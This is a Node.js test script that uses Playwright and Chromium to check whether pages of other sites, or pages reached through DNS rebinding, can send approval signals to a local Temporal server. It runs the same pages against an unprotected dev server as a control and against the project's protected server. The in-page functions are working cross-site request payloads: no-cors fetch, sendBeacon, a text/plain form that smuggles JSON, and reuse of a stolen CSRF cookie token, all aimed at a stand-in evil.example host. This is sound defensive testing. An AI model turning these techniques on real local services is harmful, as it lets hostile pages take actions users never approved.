// What web pages can do to a running server of ours, tried in Chromium: pages of other sites, and a page whose name resolves to
// this machine (DNS rebinding) and so is, for the browser, the Temporal UI's own. None may decide about a run; the UI itself may.
// The same pages are first shown a development server without our protection: there some must decide, or the attempts show
// nothing. Prints what was tried and what the browser made of it; ends with 1 if a page decided, or the UI could not.
//
//   npm run bench:browser            (CHROMIUM=/path/to/chromium where it is not found by itself)

import { execFileSync, spawn } from 'node:child_process';
import { accessSync, constants, mkdtempSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Client, Connection } from '@temporalio/client';
import { goesWithUs } from '../support/ending.mjs';
import { freePort } from '../support/ports.mjs';
import { product, temporalCli } from '../support/product.mjs';
import { until } from '../support/until.mjs';

const EVIL = 'evil.example';
const REBOUND = 'rebound.example';
const PATIENCE_MS = 20_000;
/** What was sent has arrived by then, or never will: everything is on this machine. */
const ARRIVAL_MS = 300;

function findChromium() {
  const names = ['chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable'];
  const folders = [...(process.env.PATH ?? '').split(path.delimiter), '/usr/bin', '/snap/bin'];
  const candidates = process.env.CHROMIUM
    ? [process.env.CHROMIUM]
    : [
        ...folders.flatMap((folder) => names.map((name) => path.join(folder, name))),
        '/Applications/Chromium.app/Contents/MacOS/Chromium',
        '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome',
      ];
  return candidates.find((file) => {
    try {
      accessSync(file, constants.X_OK);
      return true;
    } catch {
      return false;
    }
  });
}

const executablePath = findChromium();
if (executablePath === undefined) {
  console.log(
    'SKIPPED: Chromium is not on this machine (Debian: apt-get install chromium), or set CHROMIUM to its path',
  );
  process.exit(0);
}

const undo = [];
const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

/** Every port that the server listens on: one of them is its HTTP API's. Where `ss` is missing, those that it prints. */
function listeningPorts(pid, log) {
  try {
    const lines = execFileSync('ss', ['-ltnpH'], { encoding: 'utf8' }).split('\n');
    return lines.filter((line) => line.includes(`pid=${pid},`)).map((line) => /([\d.]+:\d+)\s/.exec(line)[1]);
  } catch {
    return [...log.matchAll(/localhost:(\d+)/g)].map(([, port]) => `127.0.0.1:${port}`);
  }
}

/** A development server as Temporal's CLI starts it by itself. */
async function startBare() {
  const [port, uiPort] = [await freePort(), await freePort()];
  const args = ['server', 'start-dev', '--ip=127.0.0.1', '--log-level=never'];
  const child = spawn(await temporalCli(console.log), [...args, `--port=${port}`, `--ui-port=${uiPort}`], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  undo.push(async () => {
    const ended = new Promise((resolve) => child.once('exit', resolve));
    child.kill('SIGTERM');
    await ended;
  });
  let log = '';
  child.stdout.on('data', (chunk) => {
    log += chunk;
  });
  await until('the bare server prints its addresses', async () => /UI:.*Metrics/s.test(log));
  return {
    ...(await usersOf(`127.0.0.1:${port}`)),
    uiUrl: `http://127.0.0.1:${uiPort}`,
    uiPort,
    ownUi: new URL(`http://127.0.0.1:${uiPort}`),
    listening: listeningPorts(child.pid, log),
  };
}

/** The server as `research --ui` starts it. */
async function startOurs() {
  const { joinEmbeddedServer } = product('temporal/embedded-server.js');
  const home = goesWithUs(mkdtempSync(path.join(tmpdir(), 'sovereign-browser-')));
  const binary = await temporalCli(console.log);
  const server = await joinEmbeddedServer({
    home,
    findBinary: async () => ({ path: binary }),
    log: () => undefined,
    ui: true,
  });
  undo.push(() => server.release());
  // It prints its addresses a moment after it answers.
  const log = await until('the server prints its addresses', async () => {
    const text = readFileSync(path.join(home, 'server', 'server.log'), 'utf8');
    return /Temporal UI:.*Metrics/s.test(text) && text;
  });
  const { serverPid } = JSON.parse(readFileSync(path.join(home, 'server', 'server.json'), 'utf8'));
  return {
    ...(await usersOf(server.address)),
    uiUrl: server.uiUrl,
    uiPort: new URL(server.uiUrl).port,
    /** Where the dev server itself has its UI, behind our proxy. */
    ownUi: new URL(/Temporal UI:\s+(\S+)/.exec(log)[1].replace('localhost', '127.0.0.1')),
    listening: listeningPorts(serverPid, log),
  };
}

/** Runs that wait for a signal, with no worker to take it. */
async function usersOf(address) {
  const connection = await Connection.connect({ address });
  undo.push(() => connection.close());
  const client = new Client({ connection });
  return {
    async newRun(workflowId) {
      await client.workflow.start('research', { workflowId, taskQueue: 'nobody' });
    },
    async signals(workflowId) {
      const { history } = await client.workflowService.getWorkflowExecutionHistory({
        namespace: 'default',
        execution: { workflowId },
      });
      return history.events.filter((event) => event.workflowExecutionSignaledEventAttributes).length;
    },
  };
}

/** In the page: everything a page may send without being asked back, to `base`. */
async function sendSimple({ base, id }) {
  const input = JSON.stringify({ input: { payloads: [] } });
  const batch = JSON.stringify({
    jobId: `job-${id}`,
    reason: 'page',
    visibilityQuery: 'WorkflowType = "research"',
    signalOperation: { signal: 'approve' },
  });
  const targets = [
    [`${base}/api/v1/namespaces/default/workflows/${id}/signal/approve`, input],
    [`${base}/api/v1/namespaces/default/batch-operations/job-${id}`, batch],
  ];
  const said = [];
  for (const [url, body] of targets) {
    said.push(
      await fetch(url, { method: 'POST', mode: 'no-cors', body }).then(
        ({ type, status }) => `${type} ${status}`,
        (error) => error.message,
      ),
    );
    navigator.sendBeacon(url, body);
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'post', enctype: 'text/plain', target: 'frame' });
    const frame = document.createElement('iframe');
    frame.name = 'frame';
    const field = document.createElement('input');
    Object.assign(field, { name: body.slice(0, -1).concat(',"x":"'), value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    form.submit();
    await new Promise((resolve) => setTimeout(resolve, 200));
    frame.remove();
  }
  return [...new Set(said)].join(', ');
}

/** In the page: what the UI's own pages send, with the cookie's token. */
async function sendAsUi({ id }) {
  const settings = await fetch('/api/v1/settings').catch((error) => ({ status: error.message }));
  const token = /_csrf=([^;]+)/.exec(document.cookie)?.[1] ?? '';
  const sent = await fetch(`/api/v1/namespaces/default/workflows/${id}/signal/approve`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-csrf-token': token },
    body: JSON.stringify({ input: { payloads: [] } }),
  }).catch((error) => ({ status: error.message }));
  return `settings ${settings.status}, signal ${sent.status}`;
}

async function startBrowser({ rules }) {
  const { chromium } = await import('playwright-core');
  const browser = await chromium.launch({
    executablePath,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--no-first-run',
      '--disable-background-networking',
      `--host-resolver-rules=${rules}`,
    ],
  });
  undo.push(() => browser.close());
  return browser;
}

const onPage = (address, act, argument) => async (page, id) => {
  await page.goto(address);
  return page.evaluate(act, { ...argument, id });
};

/** What other pages try: [what, how]. */
const attacksOn = (server, evil) => [
  ...server.listening.map((address) => [
    `a page of another site sends to ${address}`,
    onPage(evil, sendSimple, { base: `http://${address}` }),
  ]),
  ['a page of another site sends to the UI', onPage(evil, sendSimple, { base: server.uiUrl })],
  [
    'a page whose name resolves here, as the UI',
    onPage(`http://local.${REBOUND}:${server.uiPort}/`, sendAsUi),
  ],
  [
    "a page whose name resolves here, as the UI's own port",
    onPage(`http://${REBOUND}:${server.ownUi.port}/`, sendAsUi),
  ],
  ...server.listening
    .filter((at) => at.startsWith('127.0.0.1:'))
    .map((address) => [
      `a page whose name resolves here, as ${address}`,
      onPage(`http://local.${REBOUND}:${address.split(':')[1]}/`, sendSimple, { base: '' }),
    ]),
];

/** What the UI's own pages and the people before them do. */
const usesOf = (server) => [
  ...['127.0.0.1', 'localhost'].map((name) => [
    `the UI's own page at ${name}`,
    onPage(`http://${name}:${server.uiPort}/namespaces/default/workflows`, sendAsUi),
  ]),
  [
    'a person in the UI: More Actions, Send a Signal',
    async (page, id) => {
      await page.goto(`${server.uiUrl}/namespaces/default/workflows/${id}`);
      await page.getByRole('button', { name: 'More Actions' }).click();
      await page.getByRole('menuitem', { name: 'Send a Signal' }).click();
      const dialog = page.locator('[role=dialog]:visible, dialog:visible').last();
      await dialog.getByRole('textbox').first().fill('approve');
      const answered = page.waitForResponse((response) => response.url().includes('/signal/'));
      await dialog.getByRole('button', { name: 'Submit' }).click();
      return `signal ${(await answered).status()}`;
    },
  ],
];

/** Decisions that arrived at a new run for each of `attempts`, with what the browser said. */
async function tryAll(server, browser, attempts) {
  const outcomes = [];
  for (const [what, act] of attempts) {
    const id = `${what.replace(/\W+/g, '-')}-${outcomes.length}`;
    await server.newRun(id);
    const page = await (await browser.newContext()).newPage();
    page.setDefaultTimeout(PATIENCE_MS);
    const said = await act(page, id).catch((error) => error.message.split('\n', 1)[0]);
    await later(ARRIVAL_MS);
    outcomes.push({ what, said, arrived: await server.signals(id) });
    await page.context().close();
  }
  return outcomes;
}

async function main() {
  const site = createServer((_, response) => {
    response
      .writeHead(200, { 'content-type': 'text/html' })
      .end('<!doctype html><title>a page</title><body>');
  });
  await new Promise((resolve) => site.listen(0, '127.0.0.1', resolve));
  undo.push(() => new Promise((resolve) => site.close(resolve)));
  const evil = `http://${EVIL}:${site.address().port}/`;
  const rulesFor = (server) =>
    `MAP ${EVIL} 127.0.0.1, MAP ${REBOUND} ${server.ownUi.hostname}, MAP local.${REBOUND} 127.0.0.1`;
  const print = (holds, { what, said, arrived }) =>
    console.log(`${holds ? 'ok    ' : 'FAILED'} ${what}: ${arrived} decisions arrived (${said})`);

  const bare = await startBare();
  const attacked = await tryAll(bare, await startBrowser({ rules: rulesFor(bare) }), attacksOn(bare, evil));
  const through = attacked.filter(({ arrived }) => arrived > 0);
  console.log('Without protection (a bare development server), these pages decide:');
  for (const outcome of through) print(true, outcome);
  if (through.length === 0) console.log('FAILED none: the attempts below show nothing');

  const server = await startOurs();
  const browser = await startBrowser({ rules: rulesFor(server) });
  console.log(
    `Chromium ${browser.version()}; UI ${server.uiUrl}; our server listens on ${server.listening.join(', ')}`,
  );
  const refused = await tryAll(server, browser, attacksOn(server, evil));
  const allowed = await tryAll(server, browser, usesOf(server));
  for (const outcome of refused) print(outcome.arrived === 0, outcome);
  for (const outcome of allowed) print(outcome.arrived === 1, outcome);
  const tried = refused.length + allowed.length;
  const failed =
    refused.filter(({ arrived }) => arrived !== 0).length +
    allowed.filter(({ arrived }) => arrived !== 1).length;
  console.log(failed === 0 ? `all ${tried} held` : `${failed} of ${tried} did not hold`);
  return failed === 0 && through.length > 0 ? 0 : 1;
}

main()
  .catch((error) => {
    console.error(error);
    return 1;
  })
  .then(async (code) => {
    for (const step of undo.reverse()) await step().catch((error) => console.error(error.message));
    process.exit(code);
  });
